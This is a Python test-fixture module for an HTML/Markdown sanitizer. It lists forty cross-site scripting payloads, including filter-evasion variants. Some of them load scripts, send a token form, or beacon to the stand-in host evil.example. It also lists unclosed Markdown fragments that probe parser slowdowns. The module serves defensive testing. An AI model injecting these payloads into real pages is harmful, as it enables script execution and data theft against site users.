"""Forty texts that would run, fetch or send something if a page showed them unescaped, and Markdown that costs time.

Knows no page.
"""

from __future__ import annotations

HOSTILE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<!--><script>alert(1)</script-->",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='data:text/html,<script>alert(1)</script>'>",
    "<form action='https://evil.example'><input name=token><button>Go</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    '[x](https://example.org "onmouseover=alert(1)")',
    "![x](https://evil.example/beacon.png)",
    "<javascript:alert(1)>",
    "`<script>alert(1)</script>`\n\n```html\n<script>alert(1)</script>\n```",
    '"><script>alert(1)</script><x y="\'><img src=x onerror=alert(1)>',
)

# Pieces of Markdown that open what nothing closes, or the other way round: over and over they once cost seconds.
PIECES = (
    "![", "[", "[[", "[*a ", "[a](", "[](", "[a](<", "![](", "[x][", "[x]", "[a]: b\n", "[a]:\n", "](b)",
    "[a](\\(", "(", "a[](((",
    "*", "*a ", "** ", "a**b", "_a_ ", "*_a ", "**a* b_ ", "a_ *b ", "~~a ", "`", "`a ``a ",
    "<a", "<!--", "<https://a", "&a", "\\a", "a://", "\n", "\n ", "> ", ">> a\n", "- ", "- a\n", "1. ",
    "# a\n", "a\n=\n",
    "```\n", "|a", "|a|b|\n", "|-|",
)  # fmt: skip
